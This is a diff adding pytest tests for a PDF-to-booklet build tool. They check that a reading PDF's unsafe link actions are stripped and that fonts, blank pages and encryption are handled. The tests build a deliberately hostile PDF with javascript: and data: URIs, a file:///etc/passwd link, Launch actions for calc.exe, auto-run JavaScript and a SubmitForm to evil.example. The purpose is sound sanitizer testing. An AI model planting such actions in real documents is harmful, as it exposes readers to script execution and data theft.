@@ -213,3 +213,124 @@ def test_an_svg_that_cannot_be_read_is_left_out_with_a_reason(tmp_path, svg, why
     messages = [w.message for w in result.warnings]
     assert any("map.svg" in m and why in m for m in messages), messages
     assert "A map of the strike" in (out / "pic/index.html").read_text()  # its alt text instead
+
+
+# -- 11 and 12: a reading PDF's actions, fonts, blank pages and encryption ------------------------
+
+def reading_pdf(texts: list[str | None], links: list = (), font: str = "/Helvetica", **save) -> bytes:
+    """A PDF as other programs write them: one page per text (None: a blank page), a
+    standard font named and not embedded, `links` ({action}) as Link annotations on page 1."""
+    import pikepdf
+    from pikepdf import Array, Dictionary, Name
+
+    pdf = pikepdf.new()
+    face = pdf.make_indirect(Dictionary(Type=Name.Font, Subtype=Name.Type1, BaseFont=Name(font)))
+    for text in texts:
+        content = f"BT /F1 14 Tf 72 700 Td ({text}) Tj ET".encode() if text else b""
+        pdf.pages.append(pikepdf.Page(Dictionary(Type=Name.Page, MediaBox=Array([0, 0, 420, 595]),
+                                                 Resources=Dictionary(Font=Dictionary(F1=face)),
+                                                 Contents=pdf.make_stream(content))))
+    annotations = [pdf.make_indirect(Dictionary(Type=Name.Annot, Subtype=Name(kind), Rect=Array([72, 72 + 20 * n, 300, 90 + 20 * n]),
+                                                **({"A": Dictionary(action)} if action else {})))
+                   for n, (kind, action) in enumerate(links)]
+    if annotations:
+        pdf.pages[0].obj.Annots = Array(annotations)
+    buffer = io.BytesIO()
+    pdf.save(buffer, **save)
+    return buffer.getvalue()
+
+
+def plain(data: bytes) -> bytes:
+    """The PDF with no compression: every object's words searchable."""
+    import pikepdf
+
+    buffer = io.BytesIO()
+    with pikepdf.open(io.BytesIO(data)) as pdf:
+        pdf.save(buffer, qdf=True, object_stream_mode=pikepdf.ObjectStreamMode.disable, compress_streams=False)
+    return buffer.getvalue()
+
+
+READING = 'reading:\n  title: "The leaflet"\n  file: reading.pdf\n  url: https://example.org/leaflet\n'
+
+
+@pytest.mark.filterwarnings("ignore:This document has 1 form widget")  # pikepdf on our hand-made hostile file
+def test_a_reading_pdfs_links_keep_only_web_and_mail_addresses(tmp_path):
+    import pikepdf
+    from pikepdf import Name, String
+
+    def uri(address):
+        return ("/Link", {"/S": Name.URI, "/URI": String(address)})
+
+    keep = ["https://ok.example/a", "mailto:group@example.org", "HTTPS://OK.example/b"]
+    drop = ["javascript:alert(1)", " JavaScript:alert(1)", "java\tscript:alert(1)", "data:text/html,<script>x</script>",
+            "file:///etc/passwd", "relative.html", "//evil.example/x", "vbscript:msgbox"]
+    links = [uri(a) for a in keep + drop] + [
+        ("/Link", {"/S": Name.JavaScript, "/JS": String("app.alert(2)")}),
+        ("/Link", {"/S": Name.Launch, "/F": String("calc.exe")}),
+        ("/Link", {"/S": Name.GoToR, "/F": String("other.pdf"), "/D": pikepdf.Array([0, Name.Fit])}),
+        ("/Link", {"/S": Name.SubmitForm, "/F": String("https://evil.example/collect")}),
+        ("/Link", {"/S": Name.ImportData, "/F": String("data.fdf")}),
+        ("/Link", {"/S": Name.URI, "/URI": String("https://ok.example/c"), "/Next": {"/S": Name.JavaScript, "/JS": String("app.alert(3)")}}),
+        ("/Widget", {"/S": Name.JavaScript, "/JS": String("app.alert(4)")}),
+        ("/FileAttachment", None),
+        ("/Text", {"/S": Name.Launch, "/F": String("calc.exe")}),
+    ]
+    data = reading_pdf(["The strike leaflet", "Second page"], links)
+    with pikepdf.open(io.BytesIO(data)) as pdf:  # the document and its page run things too
+        pdf.Root.OpenAction = pdf.make_indirect(pikepdf.Dictionary(S=Name.JavaScript, JS=String("app.alert(5)")))
+        pdf.pages[0].obj.AA = pikepdf.Dictionary(O=pikepdf.Dictionary(S=Name.JavaScript, JS=String("app.alert(6)")))
+        buffer = io.BytesIO()
+        pdf.save(buffer)
+    write(tmp_path, {"guides/js/guide.md": guide("Js", READING), "guides/js/reading.pdf": buffer.getvalue()})
+    out = tmp_path / "build"
+    result = build_one(tmp_path / "guides/js/guide.md", out, editions=("participant", "booklet"))
+    assert result.ok, result.errors
+    text = plain((out / "js/js.pdf").read_bytes())
+    for word in (b"JavaScript", b"/Launch", b"/GoToR", b"/SubmitForm", b"/ImportData", b"/OpenAction", b"/AA",
+                 b"/Widget", b"/FileAttachment", b"calc.exe", b"alert", b"evil.example", b"passwd", b"relative.html"):
+        assert word not in text, word
+    with pikepdf.open(out / "js/js.pdf") as pdf:
+        found = [str(a.A.URI) for page in pdf.pages for a in page.obj.get("/Annots", []) if "/A" in a and "/URI" in a.A]
+    assert sorted(set(found)) == sorted(keep + ["https://ok.example/c", "https://example.org/leaflet"])  # the last: the source line
+    assert b"alert" not in plain((out / "js/js-booklet.pdf").read_bytes())
+
+
+def test_ordinary_reading_pdfs_build_and_check_says_what_build_says(tmp_path):
+    import pikepdf
+
+    cases = {
+        "helvetica": reading_pdf(["The strike leaflet", "Page two"]),
+        "blank": reading_pdf(["The strike leaflet", "Page two", None, "Page four"]),
+        "aes": reading_pdf(["The strike leaflet"], encryption=pikepdf.Encryption(user="", owner="owner", R=6)),
+        "rc4": reading_pdf(["The strike leaflet"], encryption=pikepdf.Encryption(user="", owner="owner", R=3, aes=False, metadata=False)),
+        "locked": reading_pdf(["The strike leaflet"], encryption=pikepdf.Encryption(user="secret", owner="owner", R=6)),
+        "arial": reading_pdf(["The strike leaflet"], font="/ArialMT"),
+    }
+    write(tmp_path, {**{f"guides/{n}/guide.md": guide(n, READING) for n in cases},
+                     **{f"guides/{n}/reading.pdf": data for n, data in cases.items()}})
+    checked = run("check", "guides", cwd=tmp_path)
+    out = tmp_path / "build"
+    results = {r.slug: r for r in build(sorted((tmp_path / "guides").glob("*/guide.md")),
+                                        Settings(out=out, jobs=1, editions=("participant", "booklet", "press")))}
+    said = {slug: [str(d) for d in r.errors + r.warnings] for slug, r in results.items()}
+    assert not any("internal error" in line for lines in said.values() for line in lines), said
+    assert sorted(s for s, r in results.items() if r.ok) == ["aes", "blank", "helvetica", "rc4"]
+    font = ("page 1 uses the font Helvetica without embedding it: the PDFs print it with the viewer's or printer's own; "
+            "a print shop may refuse the press PDF")
+    for slug in ("helvetica", "blank", "aes", "rc4"):
+        assert any(font in line for line in said[slug]) and any(font in line for line in checked.output.splitlines()
+                                                                 if f"guides/{slug}/" in line)
+    locked = "guides/locked/reading.pdf: error: the PDF is locked with a password: save an unlocked copy"
+    arial = "guides/arial/reading.pdf: error: page 1 uses the font ArialMT, which the PDF does not embed"
+    for line in (locked, arial):
+        assert line in checked.output
+        assert any(line.split(": error: ")[1] in said_line for lines in said.values() for said_line in lines)
+    assert checked.exit_code == 1
+    from .conftest import pdf_text
+
+    pages = pdf_text(out / "blank/blank.pdf")
+    assert "Page four" in " ".join(pages) and len((out / "aes/aes-press.pdf").read_bytes()) > 1000
+    done = run("impose", "guides/aes/reading.pdf", "aes-booklet.pdf", cwd=tmp_path)
+    assert done.exit_code == 0 and (tmp_path / "aes-booklet.pdf").read_bytes().startswith(b"%PDF")
+    done = run("impose", "guides/locked/reading.pdf", "locked-booklet.pdf", cwd=tmp_path)
+    assert done.exit_code == 1 and done.output.strip().endswith("the PDF is locked with a password: save an unlocked copy")
